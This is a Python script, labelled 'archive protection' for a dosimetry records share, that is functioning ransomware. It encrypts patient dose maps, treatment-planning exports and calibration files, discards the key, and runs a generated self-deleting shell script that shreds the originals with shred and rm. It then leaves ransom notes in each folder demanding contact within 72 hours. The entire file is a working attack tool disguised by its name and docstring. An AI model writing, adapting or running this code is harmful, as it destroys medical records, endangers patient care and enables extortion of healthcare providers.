#!/usr/bin/env python3
"""'Archive protection' for the dosimetry records share.

Walks the patient dosimetry folders (dose maps, treatment-planning
exports, calibration sheets), encrypts every file with a random key,
then shreds the originals through a generated shell script and leaves a
note explaining how to get the key back.  The key is not stored locally.
"""
import argparse
import hashlib
import logging
import os
import secrets
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("archive_protect")
EXTENSIONS = {".dcm", ".csv", ".xlsx", ".pdf", ".nii", ".json", ".txt", ".docx"}
NOTE = """YOUR DOSIMETRY RECORDS HAVE BEEN ENCRYPTED.
Patient dose maps and treatment records in this folder can only be
restored with the key held by us. Contact restore@example.net with
reference {ref} within 72 hours.
"""


def keystream_xor(data: bytes, key: bytes, nonce: bytes) -> bytes:
    out = bytearray(len(data))
    block = 0
    for off in range(0, len(data), 32):
        ks = hashlib.sha256(key + nonce + block.to_bytes(8, "big")).digest()
        chunk = data[off:off + 32]
        out[off:off + len(chunk)] = bytes(a ^ b for a, b in zip(chunk, ks))
        block += 1
    return bytes(out)


class Locker:
    def __init__(self, root: Path, key: bytes):
        self.root = root
        self.key = key
        self.done = []
        self.failed = 0

    def targets(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in EXTENSIONS and not name.endswith(".locked"):
                    yield p

    def lock(self, path: Path):
        nonce = secrets.token_bytes(16)
        data = path.read_bytes()
        enc = nonce + keystream_xor(data, self.key, nonce)
        path.with_name(path.name + ".locked").write_bytes(enc)
        self.done.append(path)

    def run(self):
        for p in self.targets():
            try:
                self.lock(p)
            except OSError as exc:
                LOG.debug("skip %s: %s", p, exc)
                self.failed += 1
        return len(self.done)


def shred_originals(paths, workdir: Path):
    """Write a shell script that destroys the originals and run it."""
    script = workdir / ".cleanup_originals.sh"
    listing = workdir / ".cleanup_list"
    listing.write_text("\0".join(str(p) for p in paths))
    script.write_text(
        "#!/bin/bash\n"
        'xargs -0 -a "$LIST" shred -u -n 1 2>/dev/null || xargs -0 -a "$LIST" rm -f\n'
        'rm -f "$LIST" "$0"\n'
    )
    script.chmod(0o700)
    env = dict(os.environ, LIST=str(listing))
    subprocess.run(["bash", str(script)], env=env, check=False)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~/dosimetry_records"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 1

    key = secrets.token_bytes(32)
    ref = hashlib.sha256(key).hexdigest()[:16]
    locker = Locker(root, key)
    count = locker.run()
    LOG.info("protected %d file(s), %d skipped", count, locker.failed)
    if count == 0:
        return 0

    shred_originals(locker.done, root)
    for d in {p.parent for p in locker.done}:
        try:
            (d / "RESTORE_YOUR_FILES.txt").write_text(NOTE.format(ref=ref))
        except OSError:
            pass
    del key
    LOG.info("originals removed; reference %s", ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
